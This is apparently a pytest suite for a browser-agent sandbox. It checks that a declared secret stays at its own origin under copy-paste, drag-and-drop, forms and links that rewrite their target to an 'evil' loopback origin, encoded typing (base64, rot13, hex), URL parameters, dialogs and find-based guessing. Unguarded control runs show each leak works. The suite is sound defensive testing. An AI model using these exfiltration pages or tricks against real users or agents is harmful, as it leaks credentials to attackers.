"""A declared secret stays at its own origin, whatever the model does with the browser.

Two origins on loopback are allowed. Each attack has a control without a declared secret (the same text, typed
literally): the value arrives, which proves that the attack works.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import pytest

from envs.browser.session import BrowserSession
from envs.core.actions import Action, ActionResult, AnswerDialog, ClickAt, Drag, DragAt, Find, Goto, Press, Status, Type
from envs.security.allowlist import Origins
from envs.security.secret_guard import is_clipboard
from envs.security.secrets import SecretVault
from tests.envs.browser.browsing import Opener, click, ref_of, type_text, visit
from tests.envs.browser.web import Web
from tests.envs.security.spellings import SPELLINGS
from tests.sampled import sampled

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

CANARY = "Kestrel7-Quartz"
NAMED = "<secret>PW</secret>"
SINK = "<input aria-label=Sink id=s style='width:300px'><script>var got='';s.oninput=()=>got=s.value</script>"
VALUE = "document.querySelector('#s').value"


def declared(web: Web) -> SecretVault:
    return SecretVault({"PW": (CANARY, Origins.parse([web.url().rstrip("/")]))})


@pytest.fixture
def evil() -> Any:
    with Web() as served:
        yield served


async def sessions(opener: Opener, web: Web, evil: Web) -> Sequence[tuple[BrowserSession, str]]:
    """(is the value declared, what the model types): the attack and its control."""
    guarded = await opener(ports=(evil.port,), vault=declared(web))
    return [(guarded, NAMED), (await opener(ports=(evil.port,)), CANARY)]


COPIES = ("Control+C", "Control+X", "Control+c", "Control+KeyC", "Control+Insert", "Shift+Delete", "ControlOrMeta+C")
PASTES = ("Control+V", "Control+v", "Shift+Insert", "Control+Shift+V", "Control+KeyV", "ControlOrMeta+V")


@pytest.mark.parametrize(
    ("copy", "paste"),
    sampled(
        [
            *(pytest.param(copy, "Control+V", id=f"{copy}-Control+V") for copy in COPIES),
            *(pytest.param("Control+C", paste, id=f"Control+C-{paste}") for paste in PASTES[1:]),
        ]
    ),
)
async def test_a_secret_was_copied_and_pasted_at_another_origin(
    opener: Opener, web: Web, evil: Web, copy: str, paste: str
) -> None:
    web["/"], evil["/"] = "<input aria-label=Q>", SINK
    for session, text in await sessions(opener, web, evil):
        await visit(session, web.url())
        assert (await type_text(session, "Q", text)).ok
        await session.execute(Press(keys="Control+A"))
        copied = await session.execute(Press(keys=copy))
        await visit(session, evil.url())
        await click(session, "Sink")
        pasted = await session.execute(Press(keys=paste))
        arrived = await session.page.evaluate(VALUE)
        if text == CANARY:
            assert arrived == CANARY, "control: copied and pasted without a declaration"
        else:
            assert arrived == "" and copied.status is pasted.status is Status.BLOCKED and "refused" in pasted.message


async def test_what_a_page_copies_is_not_pasted_elsewhere(opener: Opener, web: Web, evil: Web) -> None:
    """The page at the secret's own origin copies it; the other page, or the middle button, pastes it."""
    web["/"] = "<input aria-label=Q id=q><button onclick=\"q.select();document.execCommand('copy')\">Copy</button>"
    evil["/"] = SINK + (
        "<button onclick=\"s.focus();document.execCommand('paste');navigator.clipboard&&"
        'navigator.clipboard.readText().then(t=>s.value=t,()=>0)">Paste</button>'
    )
    for session, text in await sessions(opener, web, evil):
        await visit(session, web.url())
        await type_text(session, "Q", text)
        assert (await click(session, "Copy")).ok
        await visit(session, evil.url())
        await click(session, "Paste")
        assert await session.page.evaluate(VALUE) == "", "no page reads the clipboard by itself"
        await click(session, "Sink", button="middle")
        assert await session.page.evaluate(VALUE) == ("" if text == NAMED else CANARY)


async def test_keys_that_copy_cut_or_paste_are_recognised() -> None:
    copying = [
        *(*COPIES, *PASTES, "Control+Numpad0", "Shift+Numpad0", "Meta+C", "Meta+V", "Control+Alt+V", "Alt+Insert"),
        *("Control+Shift+Insert", "Shift+NumpadDecimal", "ControlRight+V", "Control+Copy", "Control+é"),
    ]
    others = [
        *(
            "a",
            "C",
            "v",
            "Shift+C",
            "Control+A",
            "Control+Z",
            "Control+ArrowLeft",
            "Control+Enter",
            "Alt+ArrowUp",
            "F5",
        ),
        *(
            "Enter",
            "Delete",
            "Control+Delete",
            "Backspace",
            "Insert",
            "+",
            "Control++",
            "Control+Shift+K",
            "Tab",
            "Control",
        ),
    ]
    assert [keys for keys in copying if not is_clipboard(keys)] == []
    assert [keys for keys in others if is_clipboard(keys)] == []


async def drop_in_frame(session: BrowserSession, web: Web, text: str) -> tuple[ActionResult, list[str]]:
    """Drags the value out of its field into the first frame of the page; returns what each frame received."""
    await visit(session, web.url())
    await type_text(session, "Q", text)
    await session.execute(Press(keys="Control+A"))
    box = await session.page.locator("iframe").first.bounding_box()
    assert box is not None
    result = await session.execute(DragAt(x=100, y=35, to_x=box["x"] + 80, to_y=box["y"] + 50))
    return result, [await frame.evaluate("window.dropped ?? ''") for frame in session.page.frames[1:]]


async def test_a_selection_was_dragged_where_another_origin_is_shown(opener: Opener, web: Web, evil: Web) -> None:
    """Chromium drops nothing into a frame of another origin, but the page can move one under the pointer."""
    drop = "<body><script>for (const t of ['dragover', 'drop']) addEventListener(t, e => { e.preventDefault();"
    drop += "if (t == 'drop') window.dropped = e.dataTransfer.getData('text') })</script>"
    web["/own"] = evil["/"] = drop
    field = '<input aria-label=Q style="font:40px monospace;width:380px"><br><iframe src="/own"></iframe>'
    for session, text in await sessions(opener, web, evil):
        web["/"] = field + f'<iframe src="{evil.url("/")}"></iframe>'
        result, dropped = await drop_in_frame(session, web, text)
        if text == CANARY:
            assert dropped == [CANARY, ""], "control: dragged without a declaration"
        else:
            assert dropped == ["", ""] and result.status is Status.BLOCKED and "dragging is refused" in result.message
            seen = await session.observe()
            by_ref = await session.execute(Drag(ref=ref_of(seen, "Q"), to_ref=ref_of(seen, "Q")))
            assert by_ref.status is Status.BLOCKED
        web["/"] = field
        result, dropped = await drop_in_frame(session, web, text)
        assert result.ok and dropped == [CANARY], "within its origin it may be dragged"


SEND, FIELD = "<button>Send</button>", "<input aria-label=Q name=p>"
FORMS = {
    "action": f'<form method=post action="{{evil}}">{FIELD}{SEND}</form>',
    "a field called action": f'<form method=post action="{{evil}}">{FIELD}<input type=hidden name=action>{SEND}</form>',
    "formaction": f'<form method=post action="/in">{FIELD}<button formaction="{{evil}}">Send</button></form>',
    "button elsewhere": f'<form id=f method=post>{FIELD}</form><button form=f formaction="{{evil}}">Send</button>',
    "image button": f'<form method=post>{FIELD}<input type=image alt=Send formaction="{{evil}}"></form>',
    "base": f'<base href="{{evil}}"><form method=post action="in">{FIELD}{SEND}</form>',
    "target": f'<form method=post target=t action="{{evil}}">{FIELD}{SEND}</form><iframe name=t></iframe>',
    "GET": f'<form action="{{evil}}">{FIELD}{SEND}</form>',
    "field by attribute": f'<input aria-label=Q name=p form=f><form id=f method=post action="{{evil}}">{SEND}</form>',
    "shadow root": f"""<div id=h></div><script>h.attachShadow({{{{mode:'open'}}}}).innerHTML =
        '<form method=post action="{{evil}}">{FIELD}{SEND}</form>'</script>""",
}


@pytest.mark.parametrize("form", sampled(pytest.param(form, id=name) for name, form in FORMS.items()))
async def test_a_form_of_its_own_origin_sent_a_secret_to_another(
    opener: Opener, web: Web, evil: Web, form: str
) -> None:
    web["/"], evil["/in"] = form.format(evil=evil.url("/in")), "<p>thank you</p>"
    for session, text in await sessions(opener, web, evil):
        await visit(session, web.url())
        typed = await type_text(session, "Q", text)
        await click(session, "Send")
        sent = [path + body.decode() for _, path, body in evil.requests if CANARY in path + body.decode()]
        if text == CANARY:
            assert sent, "control: the form works"
        else:
            assert sent == [] and typed.status is Status.BLOCKED and "sends to http://127.0.0.1" in typed.message


ODD_ADDRESSES = {
    "http://[abc": "an address that cannot be parsed",
    "http://u:p@evil.example/in": "http://evil.example,",
}


@pytest.mark.parametrize("address", ODD_ADDRESSES)
async def test_a_form_with_an_address_of_no_origin_is_refused(opener: Opener, web: Web, address: str) -> None:
    """By the action of the form when the secret is typed, and by a button when it is sent."""
    session = await opener(vault=declared(web))
    web["/"] = f'<form method=post action="{address}">{FIELD}{SEND}</form>'
    await visit(session, web.url())
    typed = await type_text(session, "Q", NAMED)
    assert typed.status is Status.BLOCKED and f"sends to {ODD_ADDRESSES[address]}" in typed.message
    web["/"] = f"""<form id=f method=post>{FIELD}{SEND}</form>
        <script>document.querySelector('input').oninput = () => f.action = '{address}'</script>"""
    await visit(session, web.url())
    assert (await type_text(session, "Q", NAMED)).ok
    sent = await click(session, "Send")
    assert sent.status is Status.BLOCKED and f"sends to {ODD_ADDRESSES[address]}" in sent.message


LATER = """<form id=f method=post action="/in"><input aria-label=Q name=p id=q>
    <button id=b aria-label=Send style="position:absolute;left:8px;top:60px;width:80px;height:30px">Send</button>
    <label for=b style="position:absolute;left:8px;top:120px">Send it</label></form>
    <script>q.addEventListener('input', () => f.action = '{evil}')</script>"""


WAYS = ("click", "click at a place", "click on a label", "Enter", "Space", "typed Enter")


@pytest.mark.parametrize("way", sampled(pytest.param(way, id=way) for way in WAYS))
async def test_a_form_changed_its_address_after_a_secret_was_typed(
    opener: Opener, web: Web, evil: Web, way: str
) -> None:
    web["/"], evil["/in"] = LATER.format(evil=evil.url("/in")), "<p>thank you</p>"
    for session, text in await sessions(opener, web, evil):
        await visit(session, web.url())
        assert (await type_text(session, "Q", text)).ok
        match way:
            case "click":
                result = await click(session, "Send")
            case "click at a place":
                result = await session.execute(ClickAt(x=30, y=70))
            case "click on a label":
                result = await session.execute(ClickAt(x=30, y=128))
            case "Enter":
                result = await session.execute(Press(keys="Enter"))
            case "Space":
                await session.execute(Press(keys="Tab"))
                result = await session.execute(Press(keys="Space"))
            case _:
                result = await type_text(session, "Q", "x", clear=False, enter=True)
        sent = [body.decode() for _, _, body in evil.requests if CANARY in body.decode()]
        assert (result.status, bool(sent)) == ((Status.OK, True) if text == CANARY else (Status.BLOCKED, False)), way


LINKS = ("v", "[...v].reverse().join('')", "btoa('u:' + v)", "[...v].map(c => c.charCodeAt(0).toString(16)).join('')")


@pytest.mark.parametrize("how", sampled(pytest.param(how, id=how) for how in ("click", "Enter", "at a place")))
async def test_a_link_carried_a_secret_to_another_origin(opener: Opener, web: Web, evil: Web, how: str) -> None:
    evil["/in"] = "<p>thank you</p>"
    for link in LINKS:
        web["/"] = f"""<a id=a href=/x style="position:absolute;left:8px;top:90px"><b>Next page</b></a>
            <input aria-label=Q id=q><script>q.oninput = () => {{
            const v = q.value; a.href = '{evil.url("/in")}?' + {link} }}</script>"""
        for session, text in await sessions(opener, web, evil):
            evil.requests.clear()
            await visit(session, web.url())
            assert (await type_text(session, "Q", text)).ok
            match how:
                case "click":
                    result = await click(session, "Next page")
                case "Enter":
                    await session.execute(Press(keys="Shift+Tab"))
                    result = await session.execute(Press(keys="Enter"))
                case _:
                    result = await session.execute(ClickAt(x=20, y=100))
            came = evil.hits("/in") > 0
            assert (result.status, came) == ((Status.OK, True) if text == CANARY else (Status.BLOCKED, False)), link
            await session.close()


async def test_forms_within_the_scope_are_sent(opener: Opener, web: Web, evil: Web) -> None:
    """Includes a form that a script sends, and one to another origin of the same secret."""
    web["/in"] = evil["/in"] = "<p>thank you</p>"
    web["/"] = f"""<form method=post action="javascript:void(0)"><input aria-label=A name=a></form>
        <form method=post action="{evil.url("/in")}"><input aria-label=B name=b><button>Send</button></form>
        <form method=dialog><input aria-label=C></form><input aria-label=D>"""
    both = Origins.parse([web.url().rstrip("/"), evil.url().rstrip("/")])
    session = await opener(ports=(evil.port,), vault=SecretVault({"PW": (CANARY, both)}))
    await visit(session, web.url())
    for field in "ABCD":
        assert (await type_text(session, field, NAMED)).ok, field
    assert (await click(session, "Send")).ok
    assert [body for _, path, body in evil.requests if path == "/in"] == [f"b={CANARY}".encode()]


LITERAL = (
    "plain",
    "reversed",
    "upper case",
    "rot13",
    "spaced",
    "percent, every byte",
    "HTML, decimal",
    "base64",
    "base32",
)


@pytest.mark.parametrize(
    "name",
    sampled(
        pytest.param(name, id=name)
        for name in (*LITERAL, "base64 twice", "hex with colons", "decimal codes", "JSON, every character")
    ),
)
async def test_a_model_typed_a_value_literally_at_another_origin(
    opener: Opener, web: Web, evil: Web, name: str
) -> None:
    evil["/"] = SINK
    text = SPELLINGS[name](CANARY)
    for session, secret in await sessions(opener, web, evil):
        await visit(session, evil.url())
        typed = await type_text(session, "Sink", text)
        arrived = await session.page.evaluate("got")
        if secret == CANARY:
            assert arrived == text, "control: not declared"
        else:
            assert arrived == "" and typed.status is Status.BLOCKED and "holds the value of secret PW" in typed.message
            assert (await type_text(session, "Sink", "something else")).ok


async def test_a_model_typed_a_value_in_parts(opener: Opener, web: Web, evil: Web) -> None:
    """By two actions, key by key, or around text that the page put into the field."""
    evil["/"] = SINK
    ways: dict[str, list[Action]] = {
        "parts": [Type(ref=1, text=CANARY[:6]), Type(ref=1, text=CANARY[6:], clear=False)],
        "parts over": [Type(ref=1, text=CANARY[:6]), Type(ref=1, text=CANARY[6:])],
        "keys": [Press(keys=key) for key in CANARY],
        "codes": [Press(keys=f"Key{key.upper()}" if key.isalpha() else key) for key in CANARY],
    }
    for actions in ways.values():
        for session, secret in await sessions(opener, web, evil):
            await visit(session, evil.url())
            await click(session, "Sink")
            results = [await session.execute(action) for action in actions]
            assert results[-1].status is (Status.BLOCKED if secret == NAMED else Status.OK)
    session, _ = (await sessions(opener, web, evil))[0]
    await visit(session, evil.url())
    await session.page.evaluate(f"s.value = '{CANARY[:9]}'")
    assert (await type_text(session, "Sink", CANARY[9:], clear=False)).status is Status.BLOCKED


async def test_a_model_put_a_value_into_an_address(opener: Opener, web: Web, evil: Web) -> None:
    evil["/"] = web["/"] = "<p>page</p>"
    for name in ("plain", "reversed", "base64 of URLs", "hex", "percent, twice"):
        for session, secret in await sessions(opener, web, evil):
            evil.requests.clear()
            await visit(session, web.url())
            result = await session.execute(Goto(url=f"{evil.url()}?q={SPELLINGS[name](CANARY)}"))
            assert (result.status, len(evil.requests) > 0) == (
                (Status.BLOCKED, False) if secret == NAMED else (Status.OK, True)
            )
    guarded, _ = (await sessions(opener, web, evil))[0]
    assert (await guarded.execute(Goto(url=f"{web.url()}?q={CANARY}"))).ok, "its own origin"
    assert (await guarded.execute(Goto(url=evil.url("/?q=other")))).ok


async def test_a_model_answered_a_dialog_with_a_value(opener: Opener, web: Web, evil: Web) -> None:
    evil["/"] = "<button onclick=\"document.title=prompt('Key?')\">Ask</button>"
    for session, secret in await sessions(opener, web, evil):
        await visit(session, evil.url())
        await click(session, "Ask")
        result = await session.execute(AnswerDialog(accept=True, text=CANARY[::-1]))
        assert (result.status is Status.BLOCKED) == (secret == NAMED)
        await session.execute(AnswerDialog(accept=False))
        assert await session.page.title() == ("null" if secret == NAMED else CANARY[::-1])


async def search(session: BrowserSession, text: str) -> ActionResult:
    return await session.execute(Find(text=text))


async def test_find_revealed_the_value_letter_by_letter(opener: Opener, web: Web, evil: Web) -> None:
    """`find` gives the same output for right and wrong guesses, except for the guess itself."""
    web["/"] = f"<p>Your key: {CANARY}</p><p>{CANARY[::-1]}</p><p>Kes<b>trel</b></p><p>zebra</p>"
    for session, secret in await sessions(opener, web, evil):
        await visit(session, web.url())
        outputs = {}
        for guess in (CANARY[:4], CANARY[3:8], CANARY[-3:], CANARY[::-1][:5], CANARY[:11], "Qqqq"):
            outputs[guess] = (await search(session, guess)).output.replace(guess, "GUESS")
        right = {guess: text for guess, text in outputs.items() if guess != CANARY[:4]}
        assert (len(set(right.values())) == 1) == (secret == NAMED)
        assert "Kestrel" in (await search(session, CANARY[:4])).output, "a text that is no value is matched"
        assert "zebra" in (await search(session, "ZEBRA")).output
        if secret == NAMED:
            assert f"Your key: {NAMED}" in (await search(session, "your key")).output
            assert CANARY not in (await session.observe()).text
